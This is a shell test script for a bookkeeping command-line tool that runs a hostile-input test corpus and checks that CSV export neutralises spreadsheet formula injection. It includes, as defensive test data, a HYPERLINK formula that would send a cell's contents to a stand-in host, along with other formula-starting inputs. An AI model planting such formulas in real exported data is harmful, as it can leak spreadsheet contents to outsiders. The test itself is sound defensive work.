#!/bin/sh
# hostile.sh - the hostile-input corpus: every case under tests/hostile/
# (see tests/hostile/README.md) is run against a fresh copy of the small
# book tests/hostile/base, and must give exactly its expected exit status
# and stderr (file:line:column messages) and leave every file of the book
# byte-for-byte as it was, with no temporary files left behind.
#
# A case whose expected status is 1 and that runs `check` is also run as a
# writer (`add`): a book with errors must refuse every change, unchanged.
#
# Every case's expected output has been reviewed by hand as a
# specification (tests/hostile/REVIEW.md); a case without a `reviewed` file
# fails. CASES=pattern runs only the matching cases. HOSTILE_ACCEPT=1
# writes the actual output as the expected output of the cases that have
# not been reviewed yet (new ones); a reviewed case is overwritten only with
# HOSTILE_OVERWRITE_REVIEWED=1 as well, which also removes its `reviewed`
# file: read the new output, then record the review again.
. "$(dirname "$0")/../lib.sh"

HOSTILE=$ROOT/tests/hostile
BASE=$HOSTILE/base
export SAMLA # for the setup scripts

# Whatever a case directory holds besides these is a book file to install.
is_control() {
    case "$1" in
    about | args | expect | status | stdout | env | setup | teardown | unprivileged | reviewed | README.md | REVIEW.md) return 0 ;;
    esac
    return 1
}

# The state of a book folder: every path, and every file's checksum. The
# lock file is not part of the book (writers create it), nor is the cache
# folder .samla-cache (a snapshot of the loaded journal that readers write;
# docs/file-formats.md).
snapshot() {
    (cd "$1" && find . -path ./.samla-cache -prune -o ! -name .lock -print |
        LC_ALL=C sort &&
        find . -path ./.samla-cache -prune -o -type f ! -name .lock \
            -exec cksum {} + 2>&1 | LC_ALL=C sort)
}

# Run the case's command line ($work/argv, one argument per line) in
# $work, with the case's environment, under $PREFIX (see below).
run_case() { # $1 case dir, $2 work dir, $3 out file, $4 err file
    (
        cdir=$1 wdir=$2
        cd "$wdir" || exit 125
        if [ -f "$cdir/env" ]; then
            while IFS= read -r kv; do
                # shellcheck disable=SC2163 # kv is NAME=value
                [ -n "$kv" ] && export "$kv"
            done <"$cdir/env"
        fi
        set --
        while IFS= read -r a; do set -- "$@" "$a"; done <"$wdir/argv"
        # Unquoted: $SAMLA may be a command with arguments (a wrapper), and
        # $PREFIX is empty or a command that runs the rest.
        $PREFIX $SAMLA "$@"
    ) >"$3" 2>"$4"
}

# For the permission cases: how to run without the power to ignore file
# permissions. As root that means dropping CAP_DAC_OVERRIDE and
# CAP_DAC_READ_SEARCH from the bounding set (root keeps its uid, so the
# rest of the system stays reachable, but a file of mode 000 is unreadable
# even to its owner). Empty when not root; "none" when it cannot be done.
unprivileged_prefix() {
    [ "$(id -u)" != 0 ] && return 0
    p="setpriv --bounding-set -dac_override,-dac_read_search --"
    if command -v setpriv >/dev/null 2>&1 && $p true 2>/dev/null; then
        echo "$p"
    else
        echo none
    fi
}

for dir in "$HOSTILE"/*/; do
    dir=${dir%/}
    name=${dir##*/}
    [ "$name" = base ] && continue
    case "$name" in *${CASES:-}*) ;; *) continue ;; esac
    if [ ! -f "$dir/status" ] && [ -z "${HOSTILE_ACCEPT:-}" ]; then
        not_ok "hostile/$name" "no status file"
        continue
    fi

    work=$TMPROOT/$name
    mkdir -p "$work"
    cp -R "$BASE/." "$work/bok/"
    for f in "$dir"/*; do
        b=${f##*/}
        is_control "$b" || cp "$f" "$work/bok/$b"
    done
    if [ -f "$dir/args" ]; then cp "$dir/args" "$work/argv"; else printf '%s\n' -f bok check >"$work/argv"; fi

    PREFIX=
    if [ -f "$dir/unprivileged" ]; then
        PREFIX=$(unprivileged_prefix)
        if [ "$PREFIX" = none ]; then
            skip "hostile/$name" "körs som root och setpriv kan inte ta bort CAP_DAC_OVERRIDE"
            continue
        fi
    fi
    if [ -f "$dir/setup" ]; then
        msg=$(cd "$work" && sh "$dir/setup" 2>&1)
        src=$?
        if [ "$src" -eq 77 ]; then
            skip "hostile/$name" "$msg"
            continue
        elif [ "$src" -ne 0 ]; then
            not_ok "hostile/$name: setup" "setup exited $src: $msg"
            continue
        fi
    fi

    before=$(snapshot "$work/bok")
    run_case "$dir" "$work" "$work/.out" "$work/.err"
    rc=$?
    after=$(snapshot "$work/bok")

    if [ -n "${HOSTILE_ACCEPT:-}" ]; then
        if [ -f "$dir/reviewed" ] && [ -z "${HOSTILE_OVERWRITE_REVIEWED:-}" ]; then
            not_ok "hostile/$name: expected output not overwritten: it was reviewed by hand" \
                "edit $name/expect by hand, or set HOSTILE_OVERWRITE_REVIEWED=1 too (then review it again)"
        else
            echo "$rc" >"$dir/status"
            cp "$work/.err" "$dir/expect"
            rm -f "$dir/reviewed"
        fi
    fi
    if [ -f "$dir/reviewed" ]; then
        ok "hostile/$name: expected output reviewed by hand"
    else
        not_ok "hostile/$name: expected output reviewed by hand" \
            "read $name/status and $name/expect as a specification (tests/hostile/REVIEW.md)," \
            "fix the program where the message is wrong, then record the verdict in $name/reviewed"
    fi
    want=$(cat "$dir/status")
    if [ "$rc" = "$want" ]; then
        ok "hostile/$name: exit status $want"
    else
        not_ok "hostile/$name: exit status" "got $rc, expected $want" "stderr: $(head -c 2000 "$work/.err")"
    fi
    if cmp -s "$work/.err" "$dir/expect"; then
        ok "hostile/$name: exact message"
    else
        not_ok "hostile/$name: exact message" "$(diff "$dir/expect" "$work/.err" | head -20)"
    fi
    if [ -f "$dir/stdout" ]; then
        if cmp -s "$work/.out" "$dir/stdout"; then
            ok "hostile/$name: exact output"
        else
            not_ok "hostile/$name: exact output" "$(diff "$dir/stdout" "$work/.out" | head -10)"
        fi
    fi
    if [ "$before" = "$after" ]; then
        ok "hostile/$name: book unchanged"
    else
        not_ok "hostile/$name: book unchanged" "$(printf '%s\n' "$before" >"$work/.b"; printf '%s\n' "$after" >"$work/.a"; diff "$work/.b" "$work/.a" | head -10)"
    fi

    # A book with errors refuses writes too, and stays as it was.
    if [ "$want" = 1 ] && [ "$(sed -n 3p "$work/argv")" = check ] && [ ! -f "$dir/args" ]; then
        printf '%s\n' -f bok add --date 2025-06-01 --account 7690 --activity PROC \
            --amount 100 --text Skrivförsök >"$work/argv"
        run_case "$dir" "$work" "$work/.out2" "$work/.err2"
        rc=$?
        after=$(snapshot "$work/bok")
        if [ "$rc" = 1 ] && [ "$before" = "$after" ] &&
            grep -q 'inget har ändrats' "$work/.err2"; then
            ok "hostile/$name: add refused, book unchanged"
        else
            not_ok "hostile/$name: add refused, book unchanged" "add exited $rc" "$(tail -3 "$work/.err2")"
        fi
    fi
    if [ -f "$dir/teardown" ]; then
        (cd "$work" && sh "$dir/teardown") >/dev/null 2>&1
    fi
    chmod -R u+rwX "$work" 2>/dev/null
    rm -rf "$work"
done

# Formula injection: journal text that a spreadsheet would run as a formula
# (= + - @ first) is exported to CSV as text, behind an apostrophe; amounts
# (also negative ones) stay numbers.
book=$(mktemp -d "$TMPROOT/book.XXXXXX")
cp -R "$BASE/." "$book/"
if ! $SAMLA -f "$book" list --help 2>&1 | grep -q -- '--format'; then
    skip "hostile/formula-injection" "'samla list --format csv' finns inte ännu"
else
    for t in '=HYPERLINK("http://x.invalid/?"&A1;"klicka")' '+1+1' '-2+3' '@SUM(A1:A2)'; do
        run $SAMLA -f "$book" add --date 2026-01-15 --account 7690 --activity PROC \
            --amount -1 --text "$t"
    done
    run $SAMLA -f "$book" list --period 2026 --format csv
    expect_rc 0 "hostile/formula-injection: list --format csv"
    for p in "\"'=HYPERLINK(\"\"http://x.invalid/?\"\"&A1;\"\"klicka\"\")\"" "'+1+1" "'-2+3" "'@SUM(A1:A2)"; do
        case "$OUT" in
        *";$p;"*) ok "hostile/formula-injection: exported as $p" ;;
        *) not_ok "hostile/formula-injection: exported as $p" "output: $(printf '%s' "$OUT" | grep 2026: | head -5)" ;;
        esac
    done
    if printf '%s\n' "$OUT" | grep -q ';"\{0,1\}[=+@]\|;"\{0,1\}-[^0-9]'; then
        not_ok "hostile/formula-injection: no cell begins a formula" "$(printf '%s\n' "$OUT" | grep ';"\{0,1\}[=+@]\|;"\{0,1\}-[^0-9]')"
    else
        ok "hostile/formula-injection: no cell begins a formula"
    fi
    n=$(printf '%s\n' "$OUT" | grep -c '^2026:[0-9]*;2026-01-15;7690;PROC;;;-1,00;')
    expect_eq "$n" 4 "hostile/formula-injection: the negative amounts stay numbers"
fi
